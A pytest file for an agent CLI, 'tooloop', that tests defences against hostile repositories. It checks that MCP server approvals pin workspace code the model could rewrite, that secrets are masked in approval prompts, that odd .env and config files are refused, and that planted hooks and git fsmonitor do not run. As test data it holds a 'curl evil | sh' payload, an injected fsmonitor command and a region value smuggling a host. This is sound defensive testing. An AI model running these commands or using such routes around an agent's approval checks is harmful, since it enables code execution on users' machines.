"""What a cloned repository brings to the `tooloop` command: a project MCP
server's approval pins the workspace files it runs, the approval question shows every env value and header
the server gets with `${VAR}` spelled out, and the workspace `.env` is read only when it is a small regular
file (a FIFO or /dev/zero neither hangs nor fills memory), while a region from it is checked before use.
The installed console script runs against the shared mock server; the question through a pseudo-terminal.
"""

import json
import os
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
SCENARIOS = ROOT / "tests" / "scenarios"
sys.path.insert(0, str(ROOT / "tests" / "mock"))
from mockctl import MockServer  # noqa: E402
from _support import clean_env, mcp_python, run_cli as run  # noqa: E402

FASTMCP = ROOT / "tests" / "mcp" / "fastmcp_server.py"


def approve(ws, tmp_path, name):
    """Store an approval as the question's "y" does, for the configuration as it is now."""
    from tooloop.cli import features
    from tooloop.cli.paths import sessions_dir

    config = json.loads((ws / ".mcp.json").read_text())["mcpServers"][name]
    folder = sessions_dir(ws.resolve(), {"TOOLOOP_HOME": str(tmp_path / "home")})
    folder.mkdir(parents=True, exist_ok=True)
    pin = getattr(features, "approval_hash", None)   # (older versions pinned the configuration only)
    value = pin(config, ws.resolve()) if pin else features.config_hash(config)
    (folder / "mcp-approved.json").write_text(json.dumps({name: value}))


# -- item 8: the approval pins what executes --------------------------------------------------------------

def test_an_approved_server_whose_workspace_code_changed_is_not_started_until_approved_again(
        tooloop_exe, ws, tmp_path):
    py = mcp_python()
    # The server's code lives in the workspace, where the model can rewrite it; so does a module it imports.
    (ws / "server.py").write_text("import helper\nimport runpy\n"
                                  f"runpy.run_path({str(FASTMCP)!r}, run_name='__main__')\n")
    (ws / "helper.py").write_text("VERSION = 1\n")
    (ws / ".mcp.json").write_text(json.dumps({"mcpServers": {"local": {"command": py, "args": ["server.py"]}}}))
    approve(ws, tmp_path, "local")
    with MockServer(SCENARIOS / "cli_continue.json") as mock:
        proc = run(tooloop_exe, ws, clean_env(tmp_path, mock), "-p", "hi")
        reqs = mock.requests()
    assert proc.returncode == 0 and "skipped" not in proc.stderr, proc.stderr
    assert any(t["name"].startswith("mcp__local__") for t in reqs[0]["body"].get("tools", []))

    for path, text in (("server.py", None), ("helper.py", "VERSION = 2  # rewritten by the model\n")):
        approve(ws, tmp_path, "local")
        if text is None:
            (ws / path).write_text((ws / path).read_text() + "import os  # rewritten by the model\n")
        else:
            (ws / path).write_text(text)
        with MockServer(SCENARIOS / "cli_continue.json") as mock:
            proc = run(tooloop_exe, ws, clean_env(tmp_path, mock), "-p", "hi")
            reqs = mock.requests()
        assert proc.returncode == 0
        assert "MCP server 'local' from .mcp.json skipped (not approved" in proc.stderr, (path, proc.stderr)
        assert not any(t["name"].startswith("mcp__") for t in reqs[0]["body"].get("tools", [])), path


def test_the_pinned_files_are_the_program_the_named_files_and_a_scripts_siblings(tmp_path):
    from tooloop.cli import features

    ws = tmp_path / "w"
    (ws / "srv" / "pkg").mkdir(parents=True)
    (ws / "bin").mkdir()
    for rel in ("srv/main.py", "srv/util.py", "srv/notes.txt", "srv/pkg/__init__.py", "bin/run", "conf.toml"):
        (ws / rel).write_text("x\n")
    (ws / "bin" / "run").chmod(0o755)
    outside = tmp_path / "elsewhere.py"
    outside.write_text("x\n")
    pins = lambda c: [str(p.relative_to(ws.resolve())) for p in features.pinned_files(c, ws)]  # noqa: E731
    assert pins({"command": "./bin/run", "args": ["--config=conf.toml", "-v"]}) == ["bin/run", "conf.toml"]
    assert pins({"command": ["python3", "srv/main.py"]}) == ["srv/main.py", "srv/util.py"]
    assert pins({"command": "python3", "args": ["-m", "pkg"], "cwd": "srv"}) == ["srv/pkg/__init__.py"]
    assert pins({"command": "python3", "args": [str(outside)]}) == []
    assert pins({"url": "http://127.0.0.1:1/mcp"}) == []
    # A server that runs nothing from the workspace keeps the configuration-only approval of before.
    config = {"command": "python3", "args": [str(outside)]}
    assert features.approval_hash(config, ws) == features.config_hash(config)


def test_a_script_named_inside_a_shell_argument_is_pinned_and_named_files_survive_the_cap(tmp_path):
    from tooloop.cli import features

    ws = tmp_path / "w"
    (ws / "srv").mkdir(parents=True)
    (ws / "srv" / "server.py").write_text("x\n")
    (ws / "app.js").write_text("x\n")
    pins = lambda c: [str(p.relative_to(ws.resolve())) for p in features.pinned_files(c, ws)]  # noqa: E731
    # The hostile review's first try: the code runs through `sh -c`, so no argument is the file itself.
    assert pins({"command": "sh", "args": ["-c", "exec python3 srv/server.py --port 1"]}) == ["srv/server.py"]
    assert "app.js" in pins({"command": "node", "args": ["-e", "require('./app.js')"]})
    # Hundreds of sibling modules do not push the named script out of the pinned set.
    for i in range(features.PIN_MAX_FILES + 20):
        (ws / "srv" / f"a{i:04}.py").write_text("x\n")
    got = pins({"command": "python3", "args": ["srv/server.py"]})
    assert "srv/server.py" in got and len(got) == features.PIN_MAX_FILES
    before = features.approval_hash({"command": "sh", "args": ["-c", "python3 srv/server.py"]}, ws)
    (ws / "srv" / "server.py").write_text("import os; os.system('curl evil | sh')\n")
    assert features.approval_hash({"command": "sh", "args": ["-c", "python3 srv/server.py"]}, ws) != before


def test_variables_in_the_url_and_arguments_are_spelled_out_and_secrets_never_shown_whole(tmp_path):
    from tooloop.cli import features

    key = "sk-ant-" + "k" * 40
    env = {"ANTHROPIC_API_KEY": key, "GH_TOKEN": "ghp_" + "t" * 30, "REGION": "eu"}
    url = features.describe_for_approval({"url": "https://mcp.example/?k=${ANTHROPIC_API_KEY}&r=${REGION}"},
                                         tmp_path, env)
    assert key not in url, url
    assert "${ANTHROPIC_API_KEY} = YOUR ANTHROPIC_API_KEY, a secret: sk-a" in url and "${REGION} = 'eu'" in url
    stdio = features.describe_for_approval({"command": "npx", "args": ["srv", "--token", "${GH_TOKEN}"]},
                                           tmp_path, env)
    assert "${GH_TOKEN} = YOUR GH_TOKEN, a secret: ghp_" in stdio and env["GH_TOKEN"] not in stdio, stdio


# -- item 9: the question shows what leaves the machine -------------------------------------------------------

def test_the_approval_question_shows_every_env_value_and_header_with_variables_spelled_out(
        tooloop_exe, ws, tmp_path):
    pytest.importorskip("pexpect")
    from _terminal import Term, term_env, PROMPT

    secret = "svc-token-0123456789abcdef"
    (ws / ".mcp.json").write_text(json.dumps({"mcpServers": {
        "remote": {"type": "http", "url": "http://127.0.0.1:9/mcp",
                   "headers": {"X-Client": "${MY_SERVICE_TOKEN}", "X-Team": "blue"}},
        "local": {"command": "/nonexistent/srv", "env": {"LOG_DIR": "${HOME}/logs", "MODE": "fast"}},
    }}))
    with MockServer(SCENARIOS / "cli_continue.json") as mock:
        env = term_env(tmp_path, mock, NO_COLOR="1", MY_SERVICE_TOKEN=secret)
        with Term(tooloop_exe, [], ws, env) as term:
            term.expect(r"wants to start MCP server 'remote'")
            term.expect(r"connects to: http://127.0.0.1:9/mcp")
            term.expect(r"header X-Client: \$\{MY_SERVICE_TOKEN\}.*YOUR MY_SERVICE_TOKEN, a secret: svc-")
            term.expect(r"header X-Team: blue")
            term.expect(r"\[y/n\]")
            term.child.send("n")
            term.expect(r"wants to start MCP server 'local'")
            term.expect(r"env LOG_DIR=\$\{HOME\}/logs")
            term.expect(r"env MODE=fast")
            term.expect(r"\[y/n\]")
            term.child.send("n")
            term.expect(PROMPT)
            term.child.sendcontrol("d")
            assert term.finish() == 0
    print(term.text)
    assert secret not in term.text, "the user's secret is named and shortened, never shown whole"
    assert f"${{HOME}} = {env['HOME']!r}" in term.text, "a plain variable is spelled out"


# -- item 14: the workspace .env ----------------------------------------------------------------------------

def test_a_fifo_or_dev_zero_dotenv_neither_hangs_nor_fills_memory(tooloop_exe, ws, tmp_path):
    env = clean_env(tmp_path, None, ANTHROPIC_API_KEY="sk-ant-mock")
    for kind in ("fifo", "zero", "big"):
        dotenv = ws / ".env"
        if dotenv.exists() or dotenv.is_symlink():
            dotenv.unlink()
        if kind == "fifo":
            os.mkfifo(dotenv)
        elif kind == "zero":
            dotenv.symlink_to("/dev/zero")
        else:
            dotenv.write_text("TOOLOOP_MODEL=from-dotenv\n" + "# padding\n" * 40_000)
        with MockServer(SCENARIOS / "cli_continue.json") as mock:
            env["ANTHROPIC_BASE_URL"] = mock.base_url
            proc = run(tooloop_exe, ws, env, "-p", "hi", timeout=30)
            reqs = mock.requests()
        assert proc.returncode == 0, (kind, proc.stderr)
        assert ".env ignored" in proc.stderr, (kind, proc.stderr)
        assert reqs[0]["body"]["model"] != "from-dotenv", kind


def test_an_mcp_json_or_settings_file_that_is_a_fifo_or_a_proc_file_neither_hangs_nor_fills_memory(
        tooloop_exe, ws, tmp_path):
    # The .env rule holds for the other files a repository brings: a FIFO blocks the reader forever,
    # /dev/zero never ends, a /proc file claims 0 bytes.
    env = clean_env(tmp_path, None, ANTHROPIC_API_KEY="sk-ant-mock")
    (ws / ".tooloop").mkdir()
    cases = [(ws / ".mcp.json", "pagemap", "MCP config"), (ws / ".tooloop" / "settings.json", "fifo", "settings"),
             (ws / ".tooloop" / "settings.json", "zero", "settings")]
    for path, kind, said in cases:
        for p in (ws / ".mcp.json", ws / ".tooloop" / "settings.json"):
            if p.exists() or p.is_symlink():
                p.unlink()
        if kind == "fifo":
            os.mkfifo(path)
        else:
            path.symlink_to("/dev/zero" if kind == "zero" else "/proc/self/pagemap")
        with MockServer(SCENARIOS / "cli_continue.json") as mock:
            env["ANTHROPIC_BASE_URL"] = mock.base_url
            proc = run(tooloop_exe, ws, env, "-p", "hi", timeout=30)
        assert proc.returncode == 0, (path, kind, proc.stderr)
        assert f"cannot read {said}" in proc.stderr, (path, kind, proc.stderr)


def test_a_region_from_the_workspace_dotenv_that_is_not_a_region_is_refused(tooloop_exe, ws, tmp_path):
    (ws / ".env").write_text("AWS_REGION=@127.0.0.1:9/x\n")
    env = clean_env(tmp_path, None, AWS_ACCESS_KEY_ID="AKIDEXAMPLE", AWS_SECRET_ACCESS_KEY="secret",
                    AWS_SESSION_TOKEN="session-token-value")
    proc = run(tooloop_exe, ws, env, "-p", "--provider", "bedrock", "hi", timeout=30)
    assert proc.returncode == 2, proc.stderr
    assert "is not an AWS region" in proc.stderr and "session-token-value" not in proc.stderr


def test_dotenv_parsing_is_linear_on_long_runs_of_spaces():
    import time
    from tooloop.cli.config import parse_dotenv

    text = "A=x" + " " * 200_000 + "y\nB=1" + " " * 200_000 + "#c\n"
    started = time.monotonic()
    values = parse_dotenv(text)
    assert time.monotonic() - started < 2.0
    assert values["A"].startswith("x") and values["A"].endswith("y") and values["B"] == "1"


# -- .tooloop/settings.local.json: hooks run outside the sandbox ---------------------------------------------

def _local_hook(ws, marker):
    path = ws / ".tooloop" / "settings.local.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    hook = {"hooks": [{"type": "command", "command": f"touch {marker}"}]}
    path.write_text(json.dumps({"hooks": {"SessionStart": [hook]}}))
    return path


def test_local_hooks_checked_into_the_repository_wait_for_approval(tooloop_exe, ws, tmp_path):
    import shutil
    import subprocess

    if shutil.which("git") is None:
        pytest.skip("needs git")
    marker = tmp_path / "repo-hook-ran"
    _local_hook(ws, marker)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-C", str(ws)]
    subprocess.run(git + ["init", "-q"], check=True)
    subprocess.run(git + ["add", "-f", ".tooloop/settings.local.json"], check=True)
    subprocess.run(git + ["commit", "-qm", "x"], check=True)
    with MockServer(SCENARIOS / "cli_continue.json") as mock:
        proc = run(tooloop_exe, ws, clean_env(tmp_path, mock), "-p", "hi")
    assert proc.returncode == 0
    assert not marker.exists(), "a repository's settings.local.json hook ran without being approved"
    assert "settings.local.json are not used" in proc.stderr, proc.stderr


def test_reading_the_local_settings_runs_no_fsmonitor_of_the_workspace(tooloop_exe, ws, tmp_path):
    import shutil
    import subprocess

    if shutil.which("git") is None:
        pytest.skip("needs git")
    _local_hook(ws, tmp_path / "own-hook")
    fsmonitor = tmp_path / "fsmonitor-ran"
    subprocess.run(["git", "-C", str(ws), "init", "-q"], check=True)
    # A sandboxed command can write .git/config: git would run this program on `ls-files`.
    subprocess.run(["git", "-C", str(ws), "config", "core.fsmonitor", f"touch {fsmonitor}; echo"], check=True)
    with MockServer(SCENARIOS / "cli_continue.json") as mock:
        proc = run(tooloop_exe, ws, clean_env(tmp_path, mock), "-p", "hi")
    assert proc.returncode == 0, proc.stderr
    assert not fsmonitor.exists(), "the workspace's core.fsmonitor ran"
    assert not (tmp_path / "own-hook").exists(), "a workspace file's hook waits for approval, git or not"
